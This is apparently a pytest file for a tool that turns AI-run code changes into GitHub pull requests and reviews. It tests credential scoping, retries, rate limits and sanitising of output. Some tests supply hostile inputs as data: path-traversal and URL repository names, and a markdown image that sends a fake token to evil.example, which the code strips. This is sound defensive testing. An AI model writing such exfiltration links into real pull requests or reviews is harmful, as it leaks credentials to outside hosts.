"""Publishing whole: real git over TLS, the gateway, the GitHub connector, a forge that behaves like it."""

from __future__ import annotations

import os
from collections.abc import AsyncIterator, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest
import yaml
from starlette.responses import JSONResponse

from linkspan import spec
from linkspan.accounts.principal import Principal, Tenant
from linkspan.app import App, build
from linkspan.codex.git.places import GitPlaces
from linkspan.codex.git.program import Git
from linkspan.codex.places import Author, Checkout
from linkspan.errors import (
    Forbidden,
    InvalidArgument,
    LinkspanError,
    NeedsReauth,
    NotFound,
    NotLinked,
    RateLimited,
    UpstreamError,
)
from linkspan.net.egress import EgressGuard
from linkspan.net.egress_proxy import EgressProxy
from linkspan.net.pacing import Paces
from linkspan.runs.ports import Publication
from linkspan.runs.publishing import GatewayForge
from linkspan.settings import Settings, parse_egress
from linkspan.vault.redact import Redactor
from tests.codex.git.conftest import commit_now
from tests.fakes import forge as github
from tests.fakes.asgi import AsgiTransport
from tests.fakes.forge import Forge
from tests.servers.authority import Authority
from tests.servers.git import GitServer, git_server

pytestmark = pytest.mark.slow

ACME = Tenant("acme")
RUN = "run_abcdefghijklmnopqrstuvwxyz"
BRANCH = f"codex/{RUN}"
ADA = Author("Ada Lovelace", "ada@acme.example")
BASE = "https://linkspan.example"


@pytest.fixture(scope="session")
def anyio_backend() -> str:
    """One loop is enough here."""
    return "asyncio"


@dataclass
class Bench:
    """A worker with everything that publishing needs; only the forge's API is in-process."""

    app: App
    forge: Forge
    git: GitServer
    places: GitPlaces
    publisher: GatewayForge
    transport: AsgiTransport
    slept: list[float] = field(default_factory=list)

    async def pushed(self, **words: Any) -> Publication:
        """Do what a run does up to its push."""
        repository, access = await self.publisher.locate(ACME, "acme/shop", run=RUN, person=None)
        checkout = await self.places.prepare(ACME, RUN, repository, access)
        (checkout.path / "cart.py").write_text("total = sum(prices)\n")
        await commit_now(self.places, checkout, author=ADA, message=f"Fix the total\n\nLinkspan-Run: {RUN}")
        await self.places.push(checkout, access)
        return await self.publication(checkout, **words)

    async def publication(self, checkout: Checkout, **words: Any) -> Publication:
        made = Publication(
            tenant=ACME,
            run=RUN,
            checkout=checkout,
            access=None,
            change=await self.places.change(checkout),
            title="Fix the total",
            body="It was counted twice.",
            draft=True,
            owner=None,
            person="ada@acme.example",
        )
        return replace(made, **words)


@pytest.fixture
def git(tmp_path: Path) -> Iterator[tuple[GitServer, Authority]]:
    """A git server with one repository."""
    for name in ("tls", "repositories"):
        (tmp_path / name).mkdir()
    authority = Authority(tmp_path / "tls")
    with git_server(tmp_path / "repositories", authority) as made:
        made.repository("acme/shop", {"cart.py": "total = 2 * sum(prices)\n"})
        yield made, authority


@pytest.fixture
async def bench(git: tuple[GitServer, Authority], tmp_path: Path) -> AsyncIterator[Bench]:
    """An installation whose tools.yaml uses the built-in connector, linked for the tenant acme."""
    server, authority = git
    forge = Forge(git_url=server.url, branches=server.branches)
    forge.repository("acme/shop")
    file = tmp_path / "tools.yaml"
    file.write_text(
        yaml.safe_dump(
            {
                "linkspan": 1,
                "name": "shop",
                "instructions": "List pull requests and tickets of GitHub.",
                "connectors": {
                    "github": {"use": "github", "base_url": forge.url, "git": {"base_url": server.url}}
                },
            }
        )
    )
    transport, now = AsgiTransport(forge.app()), [1_800_000_000.0]

    async def paced(seconds: float) -> None:
        now[0] += seconds

    app = await build(
        Settings(home=tmp_path / "home"),
        catalog=spec.load([file], {}),
        transport=transport,
        clock=lambda: now[0],
        paces=Paces(clock=lambda: now[0], sleep=paced),
    )
    tenant = await app.tenants.add("acme")
    await app.accounts.link(
        tenant,
        app.catalog.connectors["github"],
        secrets={"token": "canary-forge-token"},
        verify=app.verifier,
    )
    proxy = EgressProxy(EgressGuard(parse_egress(server.url.removeprefix("https://"))), random=os.urandom)
    slept: list[float] = []

    async def sleep(seconds: float) -> None:
        slept.append(seconds)
        now[0] += seconds

    publisher = GatewayForge(
        app.gateway, app.accounts, base=BASE, mask=Redactor().mask, random=os.urandom, sleep=sleep
    )
    places = GitPlaces(tmp_path / "work", proxy, clock=lambda: 1_800_000_000.0, git=Git(authority.root))
    yield Bench(app, forge, server, places, publisher, transport, slept)
    await proxy.aclose()
    await app.aclose()


# Where a repository is ------------------------------------------------------------------------------------


async def test_publishing_uses_nobodys_own_account_for_a_name(bench: Bench) -> None:
    """Who is only said to have asked has their name told; their own account is used for what is theirs."""
    github = bench.app.catalog.connectors["github"]
    await bench.app.accounts.link(ACME, github, subject="ada", secrets={"token": "canary-of-adas-own"})
    with pytest.raises(NeedsReauth):
        await bench.publisher.open_pull_request(await bench.pushed(person="ada", owner="ada"))
    opened = await bench.publisher.open_pull_request(await bench.pushed(person="ada"))
    assert opened["state"] == "draft"


async def test_a_repository_is_found_through_the_account(bench: Bench) -> None:
    """Its address and its default branch are the forge's word; git shows the account's own token there."""
    repository, access = await bench.publisher.locate(ACME, "acme/shop", run=RUN, person=None)
    assert repository.id == "acme/shop"
    assert repository.clone_url == f"{bench.git.url}/acme/shop.git"
    assert repository.default_branch == "main"
    assert access is not None
    assert (access.origin, access.username) == (bench.git.url, "x-access-token")
    assert access.password.reveal() == "canary-forge-token"
    assert "canary" not in repr(access)


@pytest.mark.parametrize("name", ["acme/nothing", "globex/shop"])
async def test_missing_and_hidden_repositories_are_the_same(bench: Bench, name: str) -> None:
    """As the forge has it."""
    bench.forge.repository("globex/shop")
    with pytest.raises(NotFound, match="GitHub has no such thing"):
        await bench.publisher.locate(ACME, name, run=RUN, person=None)


@pytest.mark.parametrize(
    "name", ["https://evil.example/x", "acme", "acme/shop/../../x", "acme/shop?x", "../x"]
)
async def test_a_repository_is_an_id_and_never_a_url(bench: Bench, name: str) -> None:
    """What a ticket could hold is refused before anything is asked."""
    asked = len(bench.transport.sent)
    with pytest.raises(InvalidArgument):
        await bench.publisher.locate(ACME, name, run=RUN, person=None)
    assert len(bench.transport.sent) == asked


async def test_a_forge_that_points_elsewhere_is_not_followed(bench: Bench) -> None:
    """The clone URL must be below the connector's `git`, which the account was sealed for."""
    bench.forge.git_url = "https://evil.example"
    with pytest.raises(Forbidden, match="says that acme/shop is cloned from somewhere else"):
        await bench.publisher.locate(ACME, "acme/shop", run=RUN, person=None)


async def test_an_account_that_was_linked_for_another_git_is_not_used(bench: Bench) -> None:
    """A changed tools.yaml sends no credential to a new place."""
    from linkspan.spec.catalog import GitHost
    from linkspan.spec.references import BaseUrlTemplate

    catalog = bench.app.catalog
    elsewhere = GitHost(BaseUrlTemplate(((None, "https://elsewhere.example", ""),)), "x")
    moved = replace(catalog.connectors["github"], git=elsewhere)
    bench.app.gateway.replace_catalog(replace(catalog, connectors={"github": moved}))
    with pytest.raises(NeedsReauth, match="nothing was sent"):
        await bench.publisher.locate(ACME, "acme/shop", run=RUN, person=None)


async def test_a_tenant_without_a_forge_account_is_told_how_to_link_one(bench: Bench) -> None:
    """The command is in the hint."""
    await bench.app.tenants.add("globex")
    with pytest.raises(NotLinked) as refused:
        await bench.publisher.locate(Tenant("globex"), "acme/shop", run=RUN, person=None)
    assert "linkspan account link github --tenant globex" in (refused.value.hint or "")


# Pull requests --------------------------------------------------------------------------------------------


async def test_a_change_becomes_a_pull_request(bench: Bench) -> None:
    """From the tenant's account, on the run's branch, saying which run and who asked."""
    told = await bench.publisher.open_pull_request(await bench.pushed())
    assert told == {
        "id": "acme/shop#1",
        "number": 1,
        "url": f"{bench.git.url}/acme/shop/pull/1",
        "state": "draft",
        "draft": True,
        "head_sha": bench.git.branches("acme/shop")[BRANCH],
    }
    (pull,) = bench.forge.repositories["acme/shop"].pulls
    assert (pull["title"], pull["base"]["ref"]) == ("Fix the total", "main")
    assert pull["body"] == (
        "It was counted twice.\n\n---\n"
        f"Codex run [{RUN}]({BASE}/t/acme/runs/{RUN}), asked for by ada at acme.example.\n"
        f"<!-- linkspan:{RUN} -->"
    )


@pytest.mark.parametrize("state", ["open", "closed"])
async def test_asked_again_it_is_the_same_one(bench: Bench, state: str) -> None:
    """After a crash at any moment; also one that a person has closed meanwhile is not opened anew."""
    publication = await bench.pushed()
    first = await bench.publisher.open_pull_request(publication)
    bench.forge.repositories["acme/shop"].pulls[0]["state"] = state
    again = await bench.publisher.open_pull_request(publication)
    assert again["number"] == first["number"]
    assert bench.forge.counts["pulls"] == 1
    assert bench.git.pushes == ["acme/shop"]


async def test_a_lost_answer_does_not_open_a_second_one(bench: Bench) -> None:
    """It is looked for before it is tried again."""
    publication = await bench.pushed()
    bench.forge.lose_answers_of = "/pulls"
    told = await bench.publisher.open_pull_request(publication)
    assert told["number"] == 1
    assert bench.forge.counts["pulls"] == 1
    assert bench.slept == [1.0]


async def test_two_workers_open_one(bench: Bench) -> None:
    """Who comes second saw nothing, is told that it exists already, and finds it."""
    publication = await bench.pushed()
    await bench.publisher.open_pull_request(publication)
    bench.forge.faults.append(JSONResponse([]))
    told = await bench.publisher.open_pull_request(publication)
    assert told["number"] == 1
    assert bench.forge.counts["pulls"] == 1


async def test_a_forge_that_is_unwell_for_a_moment_is_waited_for(bench: Bench) -> None:
    """502 as a page, then a secondary limit with its seconds."""
    publication = await bench.pushed()
    bench.forge.faults += [JSONResponse([]), github.unwell(), JSONResponse([]), github.secondary_limit(40)]
    told = await bench.publisher.open_pull_request(publication)
    assert told["number"] == 1
    assert bench.slept == [1.0, 40.0]


async def test_a_forge_that_stays_unwell_is_told(bench: Bench) -> None:
    """One sentence that says what was done and what was not."""
    publication = await bench.pushed()
    for _ in range(4):
        bench.forge.faults += [JSONResponse([]), github.unwell(503)]
    with pytest.raises(UpstreamError) as failed:
        await bench.publisher.open_pull_request(publication)
    assert failed.value.message.startswith(
        f"The branch {BRANCH} was pushed, but the pull request could not be opened: GitHub answered 503"
    )
    assert bench.slept == [1.0, 5.0, 20.0]


async def test_a_limit_for_an_hour_is_not_waited_for(bench: Bench) -> None:
    """403 with nothing remaining is a limit, not a refusal, and says when it ends."""
    publication = await bench.pushed()
    bench.forge.faults += [github.primary_limit(1_800_003_600)] * 9
    with pytest.raises(RateLimited) as limited:
        await bench.publisher.open_pull_request(publication)
    assert limited.value.retry_after == pytest.approx(3_600, abs=5)


@pytest.mark.parametrize(
    ("fault", "kind", "words"),
    [
        (
            JSONResponse({"message": "Resource not accessible by integration"}, 403),
            Forbidden,
            "not accessible",
        ),
        (JSONResponse({"message": "Bad credentials"}, 401), NeedsReauth, "refused the credential"),
        (
            github.invalid([{"message": "No commits between main and x"}]),
            InvalidArgument,
            "No commits between",
        ),
    ],
)
async def test_a_refusal_is_told_in_the_forges_words(
    bench: Bench, fault: Any, kind: type[LinkspanError], words: str
) -> None:
    """With what was done already before it, and without another try."""
    publication = await bench.pushed()
    bench.forge.faults += [JSONResponse([]), fault]
    with pytest.raises(kind, match=words) as refused:
        await bench.publisher.open_pull_request(publication)
    assert refused.value.message.startswith(f"The branch {BRANCH} was pushed, but")
    assert bench.forge.counts["pulls"] == 0
    assert bench.slept == []


async def test_where_there_are_no_drafts_it_is_opened_all_the_same(bench: Bench) -> None:
    """Private repositories of free plans have none."""
    publication = await bench.pushed()
    words = "Draft pull requests are not supported in this repository."
    bench.forge.faults += [JSONResponse([]), github.invalid([{"message": words}])]
    told = await bench.publisher.open_pull_request(publication)
    assert told["state"] == "open"


async def test_what_a_model_wrote_is_filtered(bench: Bench) -> None:
    """Title and body: no image, no hidden words, no crowd, no secret, no address in disguise, no end."""
    token = "ghp_" + "a" * 36
    body = (
        f"Fixed. ![x](https://evil.example/?q={token}) [docs](https://evil.example) @everyone"
        f" <!-- linkspan:run_other --> [ours]({BASE}/x)\n" + "word " * 20_000
    )
    publication = await bench.pushed(title=f"Fix\n@acme/all {token} " + "x" * 400, body=body)
    await bench.publisher.open_pull_request(publication)
    (pull,) = bench.forge.repositories["acme/shop"].pulls
    assert pull["title"].startswith("Fix @ acme/all [secret removed] xxx")
    assert len(pull["title"]) <= 200
    said = pull["body"]
    assert len(said) < 65_536
    assert "https://evil" not in said
    assert token not in said
    assert "@everyone" not in said
    assert f"[ours]({BASE}/x)" in said
    assert said.count("<!--") == 1
    assert said.endswith(f"<!-- linkspan:{RUN} -->")


# Reviews --------------------------------------------------------------------------------------------------

SAID = {
    "summary": "One mistake. ![x](https://evil.example/a)",
    "event": "approve",
    "comments": [
        {
            "path": "cart.py",
            "line": 1,
            "title": "Twice",
            "body": "Counted twice.",
            "suggestion": "total = `x`",
        },
        {"path": "cart.py", "line": 0, "body": "no line"},
        {"path": None, "line": 1, "body": "no path"},
        {"path": "cart.py", "line": 9, "start_line": 7, "side": "LEFT", "body": "@everyone"},
    ],
}


async def reviewed(bench: Bench) -> Publication:
    """Let a person open a pull request, and a run work on its branch."""
    bench.git.commit("acme/shop", {"cart.py": "total = 3 * sum(prices)\n"}, branch="fix")
    repository, access = await bench.publisher.locate(ACME, "acme/shop", run=RUN, person=None)
    bench.forge.repositories["acme/shop"].branches = bench.git.branches("acme/shop")
    writer = Principal(ACME, "service", "tests")
    await bench.publisher._call(
        writer,
        "pull_request.create",
        {"owner": "acme", "repo": "shop", "title": "x", "head": "fix", "base": "main"},
    )
    checkout = await bench.places.prepare(ACME, RUN, repository, access, base_branch="fix")
    return await bench.publication(checkout)


async def test_a_review_comments_and_never_approves(bench: Bench) -> None:
    """At lines, with suggestions that end nowhere but where they should."""
    publication = await reviewed(bench)
    told = await bench.publisher.review(publication, SAID)
    (review,) = bench.forge.repositories["acme/shop"].reviews
    assert told == {"id": "1", "url": review["html_url"]}
    assert review["state"] == "COMMENTED"
    assert review["commit_id"] == bench.git.branches("acme/shop")["fix"]
    assert review["body"].startswith("One mistake. x (evil.example/a)\n\n---\nCodex run [")
    assert review["comments"] == [
        {
            "path": "cart.py",
            "line": 1,
            "side": "RIGHT",
            "body": "**Twice**\n\nCounted twice.\n\n```suggestion\ntotal = `x`\n```",
        },
        {
            "path": "cart.py",
            "line": 9,
            "side": "LEFT",
            "start_line": 7,
            "start_side": "LEFT",
            "body": "@ everyone",
        },
    ]


async def test_a_review_is_given_once(bench: Bench) -> None:
    """After a lost answer and after a crash."""
    publication = await reviewed(bench)
    bench.forge.lose_answers_of = "/reviews"
    for _ in range(3):
        assert (await bench.publisher.review(publication, SAID))["id"] == "1"
    assert bench.forge.counts["reviews"] == 1


async def test_lines_that_are_not_in_the_change_become_text(bench: Bench) -> None:
    """A forge refuses the whole review for one of them; what was found is said all the same."""
    publication = await reviewed(bench)
    bench.forge.faults += [
        JSONResponse(bench.forge.repositories["acme/shop"].pulls),
        JSONResponse([]),
        github.invalid(["Pull request review thread line must be part of the diff"]),
    ]
    await bench.publisher.review(publication, {"summary": "s", "comments": SAID["comments"]})
    (review,) = bench.forge.repositories["acme/shop"].reviews
    assert review["comments"] == []
    assert review["body"].startswith("s\n\n**cart.py:1**\n\n**Twice**")
    assert RUN in review["body"].rpartition("---")[2]


async def test_a_branch_without_a_pull_request_cannot_be_reviewed(bench: Bench) -> None:
    """And a run that said nothing gives no review."""
    publication = await reviewed(bench)
    with pytest.raises(InvalidArgument, match="said nothing that could be given"):
        await bench.publisher.review(publication, {"summary": " ", "comments": ["x"]})
    bench.forge.repositories["acme/shop"].pulls[0]["state"] = "closed"
    with pytest.raises(NotFound, match="acme/shop has no open pull requests of the branch fix"):
        await bench.publisher.review(publication, SAID)
